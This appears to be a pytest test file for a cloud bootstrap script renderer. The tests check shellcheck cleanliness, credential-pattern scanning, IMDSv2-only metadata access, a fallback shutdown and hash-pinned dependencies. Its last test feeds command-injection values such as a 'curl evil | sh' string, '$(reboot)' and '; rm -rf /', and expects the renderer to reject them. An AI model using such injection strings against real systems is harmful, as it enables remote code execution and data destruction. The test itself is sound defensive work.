"""The rendered user data: shellcheck-clean, no credentials, IMDSv2 only, a fallback power-off,
and an agent command line the agent's own parser accepts."""

from __future__ import annotations

import re
import shlex
import subprocess
import sys
import tomllib
from pathlib import Path

import pytest

from pitwall.host.__main__ import build_parser
from pitwall.host.userdata import (
    BOTO3_REQUIREMENTS,
    DEFAULT_DRFC_VERSION,
    DRFC_COMMITS,
    INSTANCE_BOTO3_VERSION,
    OLDER_PYTHON_BOTO3_VERSIONS,
    render_user_data,
)
from pitwall.layout import RunKeys, agent_archive_key

REPO_ROOT = Path(__file__).resolve().parents[3]
SHELLCHECK = Path(sys.executable).parent / "shellcheck"
OPTIONS = {
    "run_id": "run-2026-11-22-a1",
    "bucket": "pitwall-models-123456789012",
    "region": "eu-west-1",
    "agent_archive_key": agent_archive_key("0f3e9a1b2c3d4e5f"),
    "agent_archive_sha256": "0f3e9a1b2c3d4e5f" + "ab" * 24,
    "fallback_shutdown_minutes": 245,
}
SECRET_PATTERNS = [
    re.compile(r"A[KS]IA[0-9A-Z]{16}"),  # access key ids
    re.compile(r"(?<![A-Za-z0-9/+=])[A-Za-z0-9/+=]{40}(?![A-Za-z0-9/+=])"),  # secret-key shaped
    re.compile(r"aws_secret_access_key|aws_session_token|AWS_SECRET|AWS_SESSION_TOKEN", re.IGNORECASE),
    re.compile(r"BEGIN [A-Z ]*PRIVATE KEY"),
    re.compile(r"(password|passwd|secret)\s*[=:]", re.IGNORECASE),
]


@pytest.fixture(scope="module")
def script() -> str:
    return render_user_data(**OPTIONS)


def test_it_passes_shellcheck(script, tmp_path):
    path = tmp_path / "user-data.sh"
    path.write_text(script)
    result = subprocess.run(
        [str(SHELLCHECK), "--shell=bash", "--severity=style", str(path)], capture_output=True, text=True
    )
    assert result.returncode == 0, result.stdout + result.stderr


def test_it_holds_no_credentials(script):
    public = script.replace(DRFC_COMMITS[DEFAULT_DRFC_VERSION], "")  # 40 characters like a secret key
    for pattern in SECRET_PATTERNS:
        assert not pattern.search(public), pattern.pattern


def test_the_metadata_service_is_only_asked_with_a_token(script):
    assert "readonly IMDS='http://169.254.169.254'" in script
    calls = [line.strip() for line in script.splitlines() if "${IMDS}" in line]
    assert calls == [
        'token="$(curl -sSf -X PUT '
        '-H \'X-aws-ec2-metadata-token-ttl-seconds: 300\' "${IMDS}/latest/api/token")"',
        'curl -sSf -H "X-aws-ec2-metadata-token: ${token}" "${IMDS}/latest/meta-data/$1"',
    ]


def test_the_instance_powers_off_at_the_deadline_and_when_the_bootstrap_fails(script):
    lines = script.splitlines()
    first_command = next(line for line in lines if line.startswith("shutdown"))
    assert first_command == 'shutdown -h "+${FALLBACK_MINUTES}" "pitwall: run ${RUN_ID} reached its deadline"'
    assert "readonly FALLBACK_MINUTES='245'" in lines
    assert "trap 'echo \"pitwall: bootstrap failed at line ${LINENO}\"; shutdown -h now' ERR" in lines
    # the shutdown comes before anything that can hang or fail
    assert lines.index(first_command) < next(i for i, line in enumerate(lines) if "curl" in line)
    assert "ExecStartPre=${PITWALL_HOME}/arm-deadline.sh" in lines  # re-armed after a reboot


def test_it_fetches_the_agent_and_the_run_spec_and_pins_its_versions(script):
    assert f"readonly AGENT_ARCHIVE_KEY='{OPTIONS['agent_archive_key']}'" in script
    assert f"readonly RUN_SPEC_KEY='{RunKeys(OPTIONS['run_id']).run_spec}'" in script
    assert f"readonly DRFC_VERSION='{DEFAULT_DRFC_VERSION}'" in script
    assert 'git clone --quiet --depth 1 --branch "${DRFC_VERSION}"' in script
    assert f"readonly DRFC_COMMIT='{DRFC_COMMITS[DEFAULT_DRFC_VERSION]}'" in script
    assert f"readonly AGENT_ARCHIVE_SHA256='{OPTIONS['agent_archive_sha256']}'" in script
    assert '"${PYTHON}" -m pip install -q --require-hashes --no-deps --only-binary=:all:' in script
    assert f"    3.8) REQUIREMENTS='boto3=={OLDER_PYTHON_BOTO3_VERSIONS['3.8']} --hash=sha256:" in script
    assert f"    *) REQUIREMENTS='boto3=={INSTANCE_BOTO3_VERSION} --hash=sha256:" in script
    for lines in BOTO3_REQUIREMENTS.values():  # the whole tree, each pinned by a digest
        assert all(re.fullmatch(r"[a-z0-9-]+==\S+ --hash=sha256:[0-9a-f]{64}", line) for line in lines)
        assert {line.split("==")[0] for line in lines} >= {"boto3", "botocore", "s3transfer", "jmespath"}


def test_a_drfc_version_without_a_pinned_commit_is_refused():
    with pytest.raises(ValueError, match="drfc_commit"):
        render_user_data(**{**OPTIONS, "drfc_version": "main"})


def test_the_instance_boto3_pin_is_the_project_pin():
    project = tomllib.loads((REPO_ROOT / "pyproject.toml").read_text())
    assert f"boto3=={INSTANCE_BOTO3_VERSION}" in project["project"]["dependencies"]


def test_the_embedded_python_compiles(script):
    body = script.split("<<'PYTHON'\n", 1)[1].split("\nPYTHON\n", 1)[0]
    compile(body, "user-data-python", "exec")


def test_the_agent_command_line_is_one_the_agent_accepts(script):
    lines = script.replace("\\\n", "").splitlines()
    exec_start = next(line for line in lines if line.startswith("ExecStart="))
    values = {
        "PITWALL_HOME": "/opt/pitwall",
        "PYTHON": "/usr/bin/python3",
        "RUN_ID": OPTIONS["run_id"],
        "BUCKET": OPTIONS["bucket"],
        "REGION": OPTIONS["region"],
        "DRFC_DIR": "/home/ubuntu/deepracer-for-cloud",
        "INSTANCE_ID": "i-0abc",
    }
    command = re.sub(r"\$\{(\w+)\}", lambda match: values[match[1]], exec_start.removeprefix("ExecStart="))
    argv = shlex.split(command)
    assert argv[:3] == ["/usr/bin/python3", "-m", "pitwall.host"]
    args = build_parser().parse_args(argv[3:])
    assert (args.run_id, args.bucket, args.region, args.instance_id) == (
        OPTIONS["run_id"],
        OPTIONS["bucket"],
        OPTIONS["region"],
        "i-0abc",
    )


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("run_id", "run'; curl evil | sh; '"),
        ("run_id", "$(reboot)"),
        ("bucket", "Bad_Bucket"),
        ("region", "us east 1"),
        ("agent_archive_key", "agent/x.zip'"),
        ("drfc_version", "v6.0.4; rm -rf /"),
        ("fallback_shutdown_minutes", 0),
        ("fallback_shutdown_minutes", 10**6),
    ],
)
def test_a_value_that_could_break_the_script_is_refused_by_name(field, value):
    with pytest.raises(ValueError, match=rf"render_user_data: {field} .* allowed: "):
        render_user_data(**{**OPTIONS, field: value})
